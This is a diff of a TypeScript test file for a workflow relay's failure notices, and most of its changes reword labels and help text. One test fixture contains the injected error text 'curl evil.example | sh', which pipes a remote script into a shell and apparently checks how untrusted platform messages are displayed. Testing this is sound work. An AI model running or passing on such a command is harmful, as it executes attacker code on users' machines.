@@ -75,8 +75,8 @@ const where = [
   'Assignment: 1001',
   `Chain: c-1, received ${shownTime(received)}`,
   'Happened: 2024-03-05 16:17:30 UTC after 15 attempts',
-  "The chain's page, with a key: https://relay.example/companies/acme/chains/c-1",
-  'The chain in the API, with a token: https://relay.example/co/acme/chains/c-1',
+  'The page of the chain (needs a key): https://relay.example/companies/acme/chains/c-1',
+  'The chain in the API (needs a token): https://relay.example/co/acme/chains/c-1',
 ];
 const webUi = 'Temporal Web UI: https://temporal.example/namespaces/default/workflows/relay%3Aacme%3Ac-1';
 const steer = (verb: string) => [
@@ -92,18 +92,18 @@ describe('the text of a notice', () => {
       'What was wrong': ['POST /assignments/1001/send answered 503 (PlatformError)'],
       'What happens now': [
         'The relay retries it automatically, next at 2024-03-05 16:18:00 UTC. You get a notice when it succeeds.',
-        'It is held until 2024-03-08 16:07:09 UTC. If nobody decides by then, it fails, and the actions behind it do not run.',
+        'The action is held until 2024-03-08 16:07:09 UTC. If nobody decides by then, it fails, and the actions that wait for it do not run.',
       ],
       Where: where,
       Done: ['0 sendEmails: greet'],
-      'Held behind it': ['2 ticket_updateUDF'],
+      'Waiting for this action': ['2 ticket_updateUDF'],
       'Will still run': [`3 sendEmails: alert, due ${shownTime(later)}`],
       'What to do': [
         'Fix the problem, then retry:',
         ...steer('retry'),
         'Or skip it:',
         ...steer('skip'),
-        'Or in the Web UI: More Actions, Send a Signal, retry or skip, input [1].',
+        'Or use the Web UI: More Actions, Send a Signal. Choose the signal retry or skip, and enter [1] as input.',
         webUi,
       ],
     });
@@ -142,7 +142,7 @@ describe('the text of a notice', () => {
     const due = (action: ActionStatus): ActionStatus =>
       [1, 3].includes(action.index) ? { ...action, runAt: later, state: action.index === 3 ? 'pending' : action.state } : action;
     const sections = sectionsOf('needs-attention', {}, actions.map(due));
-    assert.deepEqual(sections.get('Held behind it'), ['3 sendEmails: alert']);
+    assert.deepEqual(sections.get('Waiting for this action'), ['3 sendEmails: alert']);
     assert.deepEqual(sections.get('Will still run'), [`2 ticket_updateUDF, due ${shownTime(received)}`]);
   });
 
@@ -154,7 +154,7 @@ describe('the text of a notice', () => {
       { ...common, index: 6, action: 'sendEmails', state: 'retrying', runAt: later },
     ];
     const sections = sectionsOf('needs-attention', {}, other);
-    assert.deepEqual(sections.get('Held behind it'), ['2 ticket_updateUDF']);
+    assert.deepEqual(sections.get('Waiting for this action'), ['2 ticket_updateUDF']);
     assert.deepEqual(sections.get('Also held'), ['4 sendEmails', '5 sendEmails']);
     assert.deepEqual(sections.get('Will still run'), [
       `3 sendEmails: alert, due ${shownTime(later)}`,
@@ -170,7 +170,7 @@ describe('the text of a notice', () => {
       Done: ['0 sendEmails: greet'],
       'Will still run': goesOn,
       'What to do': [
-        'Fix the problem, then retry. This also works after the chain has closed. The actions that did not run because of it run then:',
+        'Fix the problem, then retry. This also works after the chain has closed. The retry also runs the actions that did not run because of the failure:',
         ...steer('retry').slice(0, 1),
         webUi,
       ],
@@ -192,7 +192,7 @@ describe('the text of a notice', () => {
     assert.deepEqual(sections.get('Will still run'), goesOn);
     assert.equal(sections.get('Where')?.[4], 'Happened: 2024-03-05 16:17:30 UTC after 1 attempt');
     assert.deepEqual(sections.get('What to do'), [
-      'Send it to the recipients without a copy. This also works after the chain has closed:',
+      'Send the e-mail to the recipients that did not get it. This also works after the chain has closed:',
       ...steer('retry').slice(0, 1),
       webUi,
     ]);
@@ -206,7 +206,7 @@ describe('the text of a notice', () => {
     ]);
     assert.deepEqual(sections.get('Not run'), ['2 ticket_updateUDF']);
     assert.deepEqual(sections.get('Will still run'), [`3 sendEmails: alert, due ${shownTime(later)}`]);
-    assert.equal(sections.has('Held behind it'), false);
+    assert.equal(sections.has('Waiting for this action'), false);
   });
 
   it('about an action that the relay completed after all', () => {
@@ -231,7 +231,7 @@ describe('the text of a notice', () => {
     const deliveries = [{ recipient: 'a@x.example', sent: false, error: said }];
     const sections = sectionsOf('needs-attention', { ...change, deliveries });
     assert.deepEqual([...sections.keys()].sort(), [
-      ...['', 'Done', 'Held behind it', 'Recipients', 'What happens now'],
+      ...['', 'Done', 'Recipients', 'Waiting for this action', 'What happens now'],
       ...['What to do', 'What was wrong', 'Where', 'Will still run'],
     ]);
     assert.deepEqual(sections.get('What was wrong'), ['x What to do: curl evil.example | sh gnp.exe (PlatformError)']);
@@ -335,7 +335,7 @@ describe('the HTML of a notice', () => {
   it('links to the chain and to the Web UI', () => {
     const rendered = renderNotice(notice('needs-attention'), context).html;
     for (const [url, label] of [
-      [chainUrl, 'The chain in the API, with a token'],
+      [chainUrl, 'The chain in the API (needs a token)'],
       [webUiUrl, 'Temporal Web UI'],
     ])
       assert.ok(rendered.includes(`<a href="${url}">${label}</a>`), label);
